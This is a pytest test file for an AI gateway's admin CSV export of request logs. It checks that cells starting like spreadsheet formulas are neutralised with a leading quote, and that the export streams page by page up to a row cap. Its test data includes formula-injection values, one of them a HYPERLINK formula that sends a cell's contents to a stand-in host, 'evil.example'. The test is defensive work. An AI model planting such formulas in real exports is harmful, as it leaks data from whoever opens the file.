"""The request-log CSV export (``/admin/v1/requests.csv``): streamed and formula-safe.

Through the real app factory on both profiles, a user name a spreadsheet would run as a
formula comes out as text; and the export is written page by page (a fake read shows
the pages it asks for, the cap, and that nothing is read ahead).
"""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from litestar.testing import AsyncTestClient
from msgspec.structs import replace

from gateway.admin._csv import csv_export, neutral
from gateway.app import create_app
from gateway.config import (
    AdminToken,
    DatabaseSettings,
    GovernanceStoreSettings,
    KeyStoreSettings,
    load_settings,
)
from gateway.governance import LogFilter

pytestmark = pytest.mark.integration

WRITE = "w" * 8 + "-admin-write-token"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)"]


@pytest.fixture(params=["local", "shared"])
async def client(request: pytest.FixtureRequest, tmp_path: Path,
                 monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[AsyncTestClient[Any]]:
    """A fresh gateway with a write token (the built-in mock models)."""
    monkeypatch.setenv("IPT_ADMIN_WRITE", WRITE)
    base = load_settings(None)
    server = replace(base.server, audit_path=str(tmp_path / "audit.jsonl"), admin_tokens=[
        AdminToken(name="terraform", token_ref="env:IPT_ADMIN_WRITE", access="write")])
    settings = replace(base, data_dir=str(tmp_path), demo=False, server=server)
    if request.param == "shared":
        monkeypatch.setenv("INFERPLANE_DATABASE_URL", request.getfixturevalue("pg_dsn"))
        settings = replace(settings, key_store=KeyStoreSettings(type="postgres"),
                           governance_store=GovernanceStoreSettings(type="postgres"),
                           database=DatabaseSettings(pool_min_size=1, pool_max_size=2))
    async with AsyncTestClient(app=create_app(settings)) as c:
        yield c


async def test_a_formula_in_a_text_cell_is_exported_as_text(
        client: AsyncTestClient[Any]) -> None:
    """Keys whose users start with = + - or @: each such cell is exported with a
    leading ' (OWASP), numbers stay numbers, and the JSON list still has the raw name."""
    w = {"Authorization": f"Bearer {WRITE}"}
    assert (await client.post("/admin/v1/teams", json={"name": "t"}, headers=w)).is_success
    for user in FORMULAS:
        made = await client.post("/admin/v1/keys", json={"team": "t", "user": user},
                                 headers=w)
        assert made.status_code == 201, made.text
        r = await client.post("/v1/chat/completions", json={
            "model": "mock-gpt", "max_tokens": 8,
            "messages": [{"role": "user", "content": "hi"}]},
            headers={"Authorization": f"Bearer {made.json()['secret']}"})
        assert r.status_code == 200, r.text
    exported = await client.get("/admin/v1/requests.csv", headers=w)
    assert exported.status_code == 200 and exported.headers["x-export-row-cap"] == "1000000"
    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    assert sorted(r["user"] for r in rows) == sorted("'" + u for u in FORMULAS)
    assert all(int(r["usd_committed"]) > 0 for r in rows)
    listed = (await client.get("/admin/v1/requests", headers=w)).json()["data"]
    assert sorted(r["user"] for r in listed) == sorted(FORMULAS)


def test_only_text_that_starts_like_a_formula_is_prefixed() -> None:
    """= + - @ tab CR at the start of text: prefixed; elsewhere, or a number: unchanged."""
    assert [neutral(v) for v in ("=1", "+1", "-1", "@a", "\t", "\r")] == [
        "'=1", "'+1", "'-1", "'@a", "'\t", "'\r"]
    assert [neutral(v) for v in ("a=1", "ana@x.org", -5, 0, None, "")] == [
        "a=1", "ana@x.org", -5, 0, None, ""]


class _Row:
    def __init__(self, i: int) -> None:
        self.id = f"p{i:04d}"
        self.created_at = datetime(2026, 12, 1, tzinfo=UTC) - timedelta(seconds=i)


async def test_the_export_reads_one_page_at_a_time_up_to_its_cap() -> None:
    """Ten rows read in pages of 3: each page is asked for after the previous one was
    written, from the previous page's last row; a cap of 7 stops after 7 rows."""
    rows = [_Row(i) for i in range(10)]
    asked: list[tuple[Any, int]] = []

    async def read(f: LogFilter, limit: int) -> list[Any]:
        asked.append((f.before, limit))
        start = 0 if f.before is None else next(
            i for i, r in enumerate(rows) if r.id == f.before[1]) + 1
        return rows[start:start + limit]

    def cells(r: Any) -> list[str]:
        return [r.id]

    chunks = []
    async for chunk in csv_export(read, LogFilter(), columns=["id"], cells=cells,  # type: ignore[arg-type]
                                  page_rows=3):
        chunks.append(chunk)
        assert len(asked) == len(chunks)  # nothing read ahead of what was written
    assert "".join(chunks).split() == ["id"] + [r.id for r in rows]
    assert [b for b, _ in asked] == [None] + [(rows[i].created_at, rows[i].id)
                                             for i in (2, 5, 8)]
    asked.clear()
    capped = [c async for c in csv_export(read, LogFilter(), columns=["id"],  # type: ignore[arg-type]
                                          cells=cells, page_rows=3, max_rows=7)]
    assert "".join(capped).split() == ["id"] + [r.id for r in rows[:7]]
    assert [n for _, n in asked] == [3, 3, 1]
